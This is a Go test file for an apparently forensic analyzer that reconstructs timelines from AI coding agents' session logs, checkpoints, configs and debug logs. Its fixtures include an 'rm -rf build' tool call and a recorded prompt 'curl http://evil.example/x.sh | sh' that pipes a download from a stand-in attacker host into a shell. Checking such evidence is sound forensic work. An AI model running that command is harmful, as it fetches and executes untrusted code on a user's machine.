package pi

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/doubleagent/doubleagent/analyzer/parser"
	"github.com/doubleagent/doubleagent/analyzer/parser/parsertest"
	"github.com/doubleagent/doubleagent/analyzer/timeline"
)

// The issue 16 items of pi (pi-debug.log, experimental meta.json) and
// little-coder (the v0.0.x Python layout).

const lc0 = home + "/.little-coder"

// lc0Files is the v0.0.x home of testdata/lc0, collected.
func lc0Files() parsertest.Files {
	f := parsertest.Files{}
	for _, rel := range []string{
		"sessions/daily/2026-04-20/session_101500_a1b2c3d4.json", "sessions/history.json",
		"sessions/mr_sessions/session_latest.json", "sessions/session_20260420_101200_9f8e7d6c.json",
		"checkpoints/5e6f7a8b/snapshots.json", "checkpoints/5e6f7a8b/backups/3f2a9c1d5e6b7a80@v1",
		"config.json", "input_history.txt",
	} {
		f[lc0+"/"+rel] = filepath.Join("testdata", "lc0", filepath.FromSlash(rel))
	}
	return f
}

func lc0Input(t *testing.T, rel, target string) *parser.Input {
	t.Helper()
	f := parser.File{Path: lc0 + "/" + rel, Agent: LittleCoder, Target: target, Rel: ".little-coder/" + rel,
		MTime: time.Date(2026, 4, 20, 9, 0, 0, 0, time.UTC)}
	return parsertest.Input(t, filepath.Join("testdata", "lc0", filepath.FromSlash(rel)), f, lc0Files())
}

func TestLittleCoderV0Golden(t *testing.T) {
	for _, c := range []struct{ name, id, rel, target string }{
		{"lc0_daily", "little-coder/session", "sessions/daily/2026-04-20/session_101500_a1b2c3d4.json", "sessions"},
		{"lc0_save", "little-coder/session", "sessions/session_20260420_101200_9f8e7d6c.json", "sessions"},
		{"lc0_history", "little-coder/session-copy", "sessions/history.json", "sessions"},
		{"lc0_latest", "little-coder/session-copy", "sessions/mr_sessions/session_latest.json", "sessions"},
		{"lc0_snapshots", "little-coder/checkpoints", "checkpoints/5e6f7a8b/snapshots.json", "checkpoints"},
		{"lc0_backup", "little-coder/checkpoints", "checkpoints/5e6f7a8b/backups/3f2a9c1d5e6b7a80@v1", "checkpoints"},
		{"lc0_config", "little-coder/config", "config.json", "config"},
		{"lc0_input_history", "little-coder/input-history", "input_history.txt", "input-history"},
	} {
		t.Run(c.name, func(t *testing.T) {
			parsertest.Golden(t, byID(t, c.id), lc0Input(t, c.rel, c.target), filepath.Join("testdata", c.name+".golden.jsonl"))
		})
	}
}

func TestLittleCoderV0Match(t *testing.T) {
	for _, c := range []struct {
		id, rel string
		want    bool
	}{
		{"little-coder/session", "sessions/daily/2026-04-20/session_101500_a1b2c3d4.json", true},
		{"little-coder/session", "sessions/mysave.json", true},
		{"little-coder/session", "sessions/mr_sessions/session_20250101.json", true},
		{"little-coder/session", "sessions/history.json", false},
		{"little-coder/session", "sessions/mr_sessions/session_latest.json", false},
		{"little-coder/session-copy", "sessions/history.json", true},
		{"little-coder/session-copy", "sessions/mr_sessions/session_latest.json", true},
		{"little-coder/session-copy", "sessions/daily/2026-04-20/history.json", false},
	} {
		f := parser.File{Path: lc0 + "/" + c.rel, Agent: LittleCoder, Target: "sessions"}
		if got := byID(t, c.id).Match(&f); got != c.want {
			t.Errorf("%s Match(%s) = %v, want %v", c.id, c.rel, got, c.want)
		}
	}
}

// TestLittleCoderV0Session: a saved session's rows at the save time (host
// local), one record id per message so its copies merge by identity; the
// corrections little-coder writes as user messages are system rows; a
// denied call is followed by its decision.
func TestLittleCoderV0Session(t *testing.T) {
	s := parsertest.Run(t, byID(t, "little-coder/session"), lc0Input(t, "sessions/daily/2026-04-20/session_101500_a1b2c3d4.json", "sessions"))
	if len(s.Problems) != 0 {
		t.Fatalf("problems: %v", s.Problems)
	}
	want := []string{
		"a1b2c3d4#session|system|little-coder session a1b2c3d4 saved at 2026-04-20 10:15:00: 3 turn(s), 1200 input / 80 output tokens, 9 message(s)",
		"a1b2c3d4/0|user|delete the build directory and rerun the tests",
		"a1b2c3d4/1#tool0|tool_use|rm -rf build",
		"a1b2c3d4/2|tool_result|Denied: user rejected this operation",
		"a1b2c3d4/2#decision|system|permission decision: denied",
		"a1b2c3d4/3|system|Your previous response was empty. Please respond with either text or a tool call to make progress on the task.",
		"a1b2c3d4/4|assistant|I could not delete build/: you declined.",
		"a1b2c3d4/5#0|user|then list it",
		"a1b2c3d4/6#0|thinking|Use ls.",
		"a1b2c3d4/6#1|tool_use|ls build",
		"a1b2c3d4/7#0|tool_result|a.o\nb.o",
	}
	var got []string
	for _, e := range s.Events {
		got = append(got, e.RecordID+"|"+string(e.TurnType)+"|"+e.Text)
		if e.SessionID != "a1b2c3d4" || e.Secondary || e.TimeBasis != timeline.TimeLocalAsUTC || e.TimeString() != "2026-04-20T10:15:00.000Z" {
			t.Errorf("row %+v", e)
		}
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("rows:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, e := range s.Events {
		if e.ToolUseID == "toolu_01" && e.TurnType == timeline.ToolResult && (e.IsError != "true" || e.ToolName != "Bash") {
			t.Errorf("denied result %+v", e)
		}
		if e.ToolUseID == "toolu_02" && e.TurnType == timeline.ToolResult && (e.IsError != "false" || e.ToolName != "Bash") {
			t.Errorf("result %+v", e)
		}
	}
	// the empty final reply is a counted skip
	if len(s.Skips) != 1 || s.Skips[0] != (parsertest.Skip{Line: 10, Reason: "no_evidence:empty_message"}) {
		t.Fatalf("skips %+v", s.Skips)
	}
}

// TestLittleCoderV0Copies: history.json and session_latest.json are
// secondary copies with the primary's record ids; history.json keeps a
// session its daily folder pruned.
func TestLittleCoderV0Copies(t *testing.T) {
	s := parsertest.Run(t, byID(t, "little-coder/session-copy"), lc0Input(t, "sessions/history.json", "sessions"))
	daily := parsertest.Run(t, byID(t, "little-coder/session"), lc0Input(t, "sessions/daily/2026-04-20/session_101500_a1b2c3d4.json", "sessions"))
	ids := map[string]string{}
	for _, e := range daily.Events {
		ids[e.RecordID] = string(e.TurnType) + e.Text
	}
	var older int
	for _, e := range s.Events {
		if !e.Secondary {
			t.Errorf("copy row not secondary: %+v", e)
		}
		if e.SessionID == "0f0f0f0f" {
			older++
			continue
		}
		if ids[e.RecordID] != string(e.TurnType)+e.Text {
			t.Errorf("copy %s differs from the daily file's: %q", e.RecordID, e.Text)
		}
	}
	if older != 3 || len(s.Events)-older != len(daily.Events) {
		t.Fatalf("older %d, copies %d of %d", older, len(s.Events)-older, len(daily.Events))
	}
	if len(find(s, timeline.User, "curl http://evil.example/x.sh | sh")) != 1 {
		t.Fatal("the pruned session's prompt is missing")
	}
}

// TestLittleCoderV0Snapshots: one row per snapshot; a rewind says so.
func TestLittleCoderV0Snapshots(t *testing.T) {
	s := parsertest.Run(t, byID(t, "little-coder/checkpoints"), lc0Input(t, "checkpoints/5e6f7a8b/snapshots.json", "checkpoints"))
	want := []string{
		`little-coder checkpoint #1: turn 0 message 0 prompt="(initial state)"`,
		`little-coder checkpoint #2: turn 1 message 3 prompt="edit main.py"; files: /home/examiner/demo/main.py (backup 3f2a9c1d5e6b7a80@v1), /home/examiner/demo/new.py (did not exist)`,
		`little-coder checkpoint #3: rewound to checkpoint #1 (conversation cut to message 0 and/or files restored); files: /home/examiner/demo/main.py (backup 3f2a9c1d5e6b7a80@v1)`,
	}
	if len(s.Events) != 3 {
		t.Fatalf("rows %+v", s.Events)
	}
	for i, e := range s.Events {
		if e.Text != want[i] || e.SessionID != "5e6f7a8b" || e.TimeBasis != timeline.TimeLocalAsUTC || e.RecordID != "5e6f7a8b/checkpoint/"+string(rune('1'+i)) {
			t.Errorf("row %d: %+v", i, e)
		}
	}
	if s.Events[2].TimeString() != "2026-04-20T10:12:30.500Z" {
		t.Errorf("time %s", s.Events[2].TimeString())
	}
	b := parsertest.Run(t, byID(t, "little-coder/checkpoints"), lc0Input(t, "checkpoints/5e6f7a8b/backups/3f2a9c1d5e6b7a80@v1", "checkpoints"))
	if len(b.Events) != 0 || len(b.Skips) != 1 || b.Skips[0].Reason != "named_by_snapshots_json" {
		t.Fatalf("backup: rows %+v skips %+v", b.Events, b.Skips)
	}
}

// TestLittleCoderV0Config: the three keys, never a token value.
func TestLittleCoderV0Config(t *testing.T) {
	p := byID(t, "little-coder/config")
	if !p.(parser.Specced).Spec().ReadsSecretKind {
		t.Fatal("config.json holds API keys: the parser must declare ReadsSecretKind")
	}
	s := parsertest.Run(t, p, lc0Input(t, "config.json", "config"))
	want := []string{
		"permission setting: permission_mode=manual (from .little-coder/config.json, file mtime)",
		"gist sync setting: cloudsave_auto=true gist_token=present last_gist_id=8a7b6c5d4e (from .little-coder/config.json, file mtime)",
		"telegram relay setting: telegram_chat_id=987654321 telegram_token=present (from .little-coder/config.json, file mtime)",
	}
	if len(s.Events) != 3 {
		t.Fatalf("rows %+v", s.Events)
	}
	for i, e := range s.Events {
		if e.Text != want[i] || e.TimeBasis != timeline.TimeFileMTime {
			t.Errorf("row %d: %q", i, e.Text)
		}
		for _, secret := range []string{"NEVERPRINTTHIS", "SECRETBOTTOKEN", "sk-ant-NEVER", "ollama/qwen3.5"} {
			if strings.Contains(e.Text, secret) {
				t.Errorf("row %d prints %s", i, secret)
			}
		}
	}
}

// TestLittleCoderV0InputHistory: readline's lines (libedit escapes
// undone), a GNU timestamp line timing the next entry.
func TestLittleCoderV0InputHistory(t *testing.T) {
	s := parsertest.Run(t, byID(t, "little-coder/input-history"), lc0Input(t, "input_history.txt", "input-history"))
	if len(s.Events) != 3 || s.Events[0].Text != "then list it" || s.Events[0].TimeString() != "2026-04-20T10:15:00.000Z" ||
		s.Events[1].Text != "delete the build directory and rerun the tests" || s.Events[1].TimeBasis != timeline.TimeNone ||
		s.Events[2].Text != "/exit" || !s.Events[0].Secondary {
		t.Fatalf("rows %+v", s.Events)
	}
	if got := s.SkipCounts(); got["state_only:history-version-header"] != 1 || got["state_only"] != 1 {
		t.Fatalf("skips %v", got)
	}
}

func piInput(t *testing.T, local, orig, target string, related parsertest.Files) *parser.Input {
	t.Helper()
	f := parser.File{Path: orig, Agent: Agent, Target: target, MTime: time.Date(2026, 3, 12, 11, 0, 0, 0, time.UTC)}
	return parsertest.Input(t, local, f, related)
}

// TestDebugLog: the last /debug snapshot: its row, the session's messages
// as secondary rows at their own times without a session, rendered and
// redraw lines counted.
func TestDebugLog(t *testing.T) {
	s := parsertest.Golden(t, byID(t, "pi/debug-log"), piInput(t, "testdata/debug/pi-debug.log", home+"/.pi/agent/pi-debug.log", "debug", nil), "testdata/debug_log.golden.jsonl")
	if len(s.Problems) != 1 || s.Problems[0] != "line 14: malformed JSON line (cut short or corrupt), skipped: invalid character 'o' in literal null (expecting 'u')" {
		t.Fatalf("problems %v", s.Problems)
	}
	snap := one(t, s, timeline.System, "debug snapshot at ")
	if snap.Text != "debug snapshot at 2026-03-10T09:05:00.000Z: terminal 120x40, 3 rendered line(s), 3 message(s)" || snap.TimeString() != "2026-03-10T09:05:00.000Z" || snap.Secondary {
		t.Fatalf("snapshot row %+v", snap)
	}
	u := one(t, s, timeline.User, "list the files")
	if !u.Secondary || u.SessionID != "" || u.TimeString() != "2026-03-10T09:00:05.000Z" || u.SourceLine != 11 {
		t.Fatalf("user row %+v", u)
	}
	c := one(t, s, timeline.ToolUse, "rm -rf build/")
	if !c.Secondary || c.ToolUseID != "call_1" || c.ToolName != "bash" || c.Model != "claude-sonnet-4-5" {
		t.Fatalf("call %+v", c)
	}
	if r := one(t, s, timeline.ToolResult, "(no output)"); !r.Secondary || r.ToolUseID != "call_1" {
		t.Fatalf("result %+v", r)
	}
	if got := s.SkipCounts(); got["no_evidence:rendered_tui_line"] != 3 || got["no_evidence:redraw_log"] != 1 {
		t.Fatalf("skips %v", got)
	}
}

// TestExperimentalMeta: the experimental server's session record.
func TestExperimentalMeta(t *testing.T) {
	dir := home + "/.pi/agent/experimental/sessions/exp-7f3a"
	s := parsertest.Golden(t, byID(t, "pi/experimental-meta"), piInput(t, "testdata/experimental/meta.json", dir+"/meta.json", "experimental-meta",
		parsertest.Files{dir + "/session.sqlite": "testdata/experimental/meta.json"}), "testdata/experimental_meta.golden.jsonl")
	if len(s.Events) != 1 {
		t.Fatalf("rows %+v", s.Events)
	}
	e := s.Events[0]
	if e.Text != "experimental session exp-7f3a: cwd=/home/examiner/durable serverId=srv-1 (session.sqlite collected, not parsed)" ||
		e.SessionID != "exp-7f3a" || e.ProjectPath != "/home/examiner/durable" || e.TimeString() != "2026-03-12T10:00:00.000Z" || e.RecordID != "exp-7f3a#meta" {
		t.Fatalf("row %+v", e)
	}
	s = parsertest.Run(t, byID(t, "pi/experimental-meta"), piInput(t, "testdata/experimental/meta.json", dir+"/meta.json", "experimental-meta", nil))
	if !strings.HasSuffix(s.Events[0].Text, "(session.sqlite not collected)") {
		t.Fatalf("row %q", s.Events[0].Text)
	}
}
